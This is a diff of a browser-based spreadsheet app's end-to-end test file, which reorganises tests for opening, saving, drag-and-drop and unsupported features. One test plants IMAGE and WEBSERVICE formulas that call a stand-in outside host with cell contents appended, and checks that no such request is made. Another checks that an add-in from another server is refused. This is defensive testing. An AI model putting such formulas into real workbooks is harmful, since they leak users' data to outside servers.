@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 
-export const address = null;
+export const address = '/?model=none';
 
 const FIGURES = /([\d.,]+)\s*fte tekort/;
 
@@ -166,6 +166,117 @@ const press = (t, name) => t.page.getByRole('button', { name, exact: true }).cli
 
 /** @type {import('./journeys').Tests} */
 export const tests = {
+  // On one page, each from the saved workbook the one before it leaves.
+  'changes nobody saved are asked about, and cancelling keeps them': async (t) => {
+    const other = workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>');
+    await t.type('A1', '12');
+    await chooseBytes(t, 'ander.xlsx', other);
+    await said(t, 'niet zijn opgeslagen');
+    await press(t, 'Annuleren');
+    assert.deepEqual(await t.values('A1'), [[12]]);
+    await chooseBytes(t, 'ander.xlsx', other);
+    const [download] = await Promise.all([t.page.waitForEvent('download'), press(t, 'Eerst opslaan')]);
+    assert.equal(download.suggestedFilename(), 'werkmap.xlsx');
+    await said(t, 'Geopend: ander.xlsx');
+    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
+    // Nothing was changed since: no question, and nothing of the other workbook to undo.
+    await t.workbench(() => window.workbench.grid.undo());
+    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
+    await chooseBytes(t, 'weer.xlsx', other);
+    await said(t, 'Geopend: weer.xlsx');
+  },
+
+  'a file dropped on the grid is opened': async (t) => {
+    const bytes = [...workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>')];
+    await t.workbench((contents) => {
+      const dataTransfer = new DataTransfer();
+      dataTransfer.items.add(new File([new Uint8Array(contents)], 'gesleept.xlsx'));
+      const grid = document.querySelector('#grid canvas');
+      for (const type of ['dragover', 'drop'])
+        grid?.dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
+    }, bytes);
+    await said(t, 'Geopend: gesleept.xlsx');
+    assert.deepEqual(await t.values('A1'), [[7]]);
+  },
+
+  'Ctrl+S keeps what is being typed': async (t) => {
+    await t.workbench(() => window.workbench.select('B2'));
+    await t.workbench(() => window.workbench.focusGrid());
+    await t.page.keyboard.type('4');
+    await t.page.keyboard.insertText('2');
+    const [download] = await Promise.all([t.page.waitForEvent('download'), t.page.keyboard.press('Control+s')]);
+    const sheet = strFromU8(unzipSync(readFileSync(await download.path()))['xl/worksheets/sheet1.xml']);
+    assert.match(sheet, /<c r="B2"><v>42<\/v><\/c>/);
+  },
+
+  'a workbook of a stranger asks nothing of any other server': async (t) => {
+    const asked = [];
+    t.page.on('request', (request) => asked.push(new URL(request.url()).hostname));
+    const image = '<c r="B1"><f>_xlfn.IMAGE("https://elders.example/"&amp;A1)</f></c>';
+    const service = '<c r="C1"><f>WEBSERVICE("https://elders.example/"&amp;A1)</f></c>';
+    await chooseBytes(
+      t,
+      'vreemd.xlsx',
+      workbookOf(`<sheetData><row r="1"><c r="A1"><v>7</v></c>${image}${service}</row></sheetData>`),
+    );
+    await said(t, '^Geopend: vreemd.xlsx');
+    await t.idle();
+    assert.deepEqual(await t.values('A1:C1'), [[7, '#VALUE!', '#VALUE!']]);
+    assert.deepEqual(
+      asked.filter((host) => host !== 'localhost'),
+      [],
+    );
+  },
+
+  'fifty thousand rows are opened and saved': async (t) => {
+    const cell = (column, row) => `<c r="${'ABCDEFGH'[column]}${row}"><v>${row * 10 + column}</v></c>`;
+    const rows = Array.from({ length: 50_000 }, (_none, i) => {
+      const cells = Array.from({ length: 7 }, (_cell, column) => cell(column, i + 1)).join('');
+      return `<row r="${i + 1}">${cells}<c r="H${i + 1}" t="str"><v>tekst ${i}</v></c></row>`;
+    });
+    const bytes = workbookOf(`<sheetData>${rows.join('')}</sheetData>`);
+    const started = Date.now();
+    await chooseBytes(t, 'groot.xlsx', bytes);
+    await said(t, 'Geopend: groot.xlsx');
+    const opened = Date.now() - started;
+    assert.deepEqual(await t.values('Blad!G50000:H50000'), [[500_006, 'tekst 49999']]);
+    const from = Date.now();
+    const { path } = await save(t);
+    console.log(
+      `        ${(bytes.length / 1e6).toFixed(1)} MB opened in ${opened} ms, saved in ${Date.now() - from} ms as ${(readFileSync(path).length / 1e6).toFixed(1)} MB`,
+    );
+  },
+
+  'an add-in of another server is refused': async ({ page }) => {
+    const own = new URL(page.url()).origin;
+    const other = await page.context().newPage();
+    await other.goto(`${own}/?addin=https://elders.example/`);
+    await other.waitForFunction(() =>
+      document.getElementById('status')?.textContent.includes('only an add-in of this server'),
+    );
+    assert.equal(await other.locator('#pane iframe').count(), 0);
+    await other.close();
+  },
+
+  'what is not taken over is said; the rest is there and still calculates': async (t) => {
+    const sheet =
+      '<sheetData><row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*10</f><v>20</v></c><c r="C1"><f>NOOIT.GEHOORD(1)</f><v>5</v></c>' +
+      '<c r="D1"><f>[1]Blad!A1</f><v>8</v></c></row></sheetData><mergeCells><mergeCell ref="A3:C4"/></mergeCells><hyperlinks><hyperlink ref="A1"/></hyperlinks>';
+    const others = {
+      'xl/charts/chart1.xml': '<c/>',
+      'xl/charts/chart2.xml': '<c/>',
+      'xl/pivotTables/pivotTable1.xml': '<p/>',
+    };
+    await chooseBytes(t, 'analist.xlsx', workbookOf(sheet, others));
+    await said(
+      t,
+      '2 grafieken, 1 draaitabel, 1 hyperlink die nergens heen gaat, 1 formule met een koppeling naar een andere werkmap',
+    );
+    await t.type('A1', '3');
+    assert.deepEqual(await t.values('A1:D1'), [[3, 30, 5, 8]]);
+  },
+
+  // On pages of their own.
   'the example with one of everything comes back in a fresh page, and the pane shows the same figures': async ({
     open,
   }) => {
@@ -272,122 +383,6 @@ export const tests = {
     assert.equal(t.frame.name(), frame, 'the pane was not reloaded');
     await press(t, 'Sluiten');
     assert.equal(await notice(t), '');
-  },
-
-  'changes nobody saved are asked about, and cancelling keeps them': async ({ open }) => {
-    const t = await open('/?model=none');
-    const other = workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>');
-    await t.type('A1', '12');
-    await chooseBytes(t, 'ander.xlsx', other);
-    await said(t, 'niet zijn opgeslagen');
-    await press(t, 'Annuleren');
-    assert.deepEqual(await t.values('A1'), [[12]]);
-    await chooseBytes(t, 'ander.xlsx', other);
-    const [download] = await Promise.all([t.page.waitForEvent('download'), press(t, 'Eerst opslaan')]);
-    assert.equal(download.suggestedFilename(), 'werkmap.xlsx');
-    await said(t, 'Geopend: ander.xlsx');
-    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
-    // Nothing was changed since: no question, and nothing of the other workbook to undo.
-    await t.workbench(() => window.workbench.grid.undo());
-    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
-    await chooseBytes(t, 'weer.xlsx', other);
-    await said(t, 'Geopend: weer.xlsx');
-  },
-
-  'what is not taken over is said; the rest is there and still calculates': async ({ open }) => {
-    const t = await open('/?model=none');
-    const sheet =
-      '<sheetData><row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*10</f><v>20</v></c><c r="C1"><f>NOOIT.GEHOORD(1)</f><v>5</v></c>' +
-      '<c r="D1"><f>[1]Blad!A1</f><v>8</v></c></row></sheetData><mergeCells><mergeCell ref="A3:C4"/></mergeCells><hyperlinks><hyperlink ref="A1"/></hyperlinks>';
-    const others = {
-      'xl/charts/chart1.xml': '<c/>',
-      'xl/charts/chart2.xml': '<c/>',
-      'xl/pivotTables/pivotTable1.xml': '<p/>',
-    };
-    await chooseBytes(t, 'analist.xlsx', workbookOf(sheet, others));
-    await said(
-      t,
-      '2 grafieken, 1 draaitabel, 1 hyperlink die nergens heen gaat, 1 formule met een koppeling naar een andere werkmap',
-    );
-    await t.type('A1', '3');
-    assert.deepEqual(await t.values('A1:D1'), [[3, 30, 5, 8]]);
-  },
-
-  'Ctrl+S keeps what is being typed': async ({ open }) => {
-    const t = await open('/?model=none');
-    await t.workbench(() => window.workbench.select('B2'));
-    await t.workbench(() => window.workbench.focusGrid());
-    await t.page.keyboard.type('4');
-    await t.page.keyboard.insertText('2');
-    const [download] = await Promise.all([t.page.waitForEvent('download'), t.page.keyboard.press('Control+s')]);
-    const sheet = strFromU8(unzipSync(readFileSync(await download.path()))['xl/worksheets/sheet1.xml']);
-    assert.match(sheet, /<c r="B2"><v>42<\/v><\/c>/);
-  },
-
-  'a file dropped on the grid is opened': async ({ open }) => {
-    const t = await open('/?model=none');
-    const bytes = [...workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>')];
-    await t.workbench((contents) => {
-      const dataTransfer = new DataTransfer();
-      dataTransfer.items.add(new File([new Uint8Array(contents)], 'gesleept.xlsx'));
-      const grid = document.querySelector('#grid canvas');
-      for (const type of ['dragover', 'drop'])
-        grid?.dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
-    }, bytes);
-    await said(t, 'Geopend: gesleept.xlsx');
-    assert.deepEqual(await t.values('A1'), [[7]]);
-  },
-
-  'fifty thousand rows are opened and saved': async ({ open }) => {
-    const t = await open('/?model=none');
-    const cell = (column, row) => `<c r="${'ABCDEFGH'[column]}${row}"><v>${row * 10 + column}</v></c>`;
-    const rows = Array.from({ length: 50_000 }, (_none, i) => {
-      const cells = Array.from({ length: 7 }, (_cell, column) => cell(column, i + 1)).join('');
-      return `<row r="${i + 1}">${cells}<c r="H${i + 1}" t="str"><v>tekst ${i}</v></c></row>`;
-    });
-    const bytes = workbookOf(`<sheetData>${rows.join('')}</sheetData>`);
-    const started = Date.now();
-    await chooseBytes(t, 'groot.xlsx', bytes);
-    await said(t, 'Geopend: groot.xlsx');
-    const opened = Date.now() - started;
-    assert.deepEqual(await t.values('Blad!G50000:H50000'), [[500_006, 'tekst 49999']]);
-    const from = Date.now();
-    const { path } = await save(t);
-    console.log(
-      `        ${(bytes.length / 1e6).toFixed(1)} MB opened in ${opened} ms, saved in ${Date.now() - from} ms as ${(readFileSync(path).length / 1e6).toFixed(1)} MB`,
-    );
-  },
-
-  'a workbook of a stranger asks nothing of any other server': async ({ open }) => {
-    const t = await open('/?model=none');
-    const asked = [];
-    t.page.on('request', (request) => asked.push(new URL(request.url()).hostname));
-    const image = '<c r="B1"><f>_xlfn.IMAGE("https://elders.example/"&amp;A1)</f></c>';
-    const service = '<c r="C1"><f>WEBSERVICE("https://elders.example/"&amp;A1)</f></c>';
-    await chooseBytes(
-      t,
-      'vreemd.xlsx',
-      workbookOf(`<sheetData><row r="1"><c r="A1"><v>7</v></c>${image}${service}</row></sheetData>`),
-    );
-    await said(t, '^Geopend: vreemd.xlsx');
-    await t.idle();
-    assert.deepEqual(await t.values('A1:C1'), [[7, '#VALUE!', '#VALUE!']]);
-    assert.deepEqual(
-      asked.filter((host) => host !== 'localhost'),
-      [],
-    );
-  },
-
-  'an add-in of another server is refused': async ({ open }) => {
-    const { page } = await open('/?model=none');
-    const own = new URL(page.url()).origin;
-    const other = await page.context().newPage();
-    await other.goto(`${own}/?addin=https://elders.example/`);
-    await other.waitForFunction(() =>
-      document.getElementById('status')?.textContent.includes('only an add-in of this server'),
-    );
-    assert.equal(await other.locator('#pane iframe').count(), 0);
-    await other.close();
   },
 
   'an address without a workbook says so and leaves an empty one': async ({ open }) => {
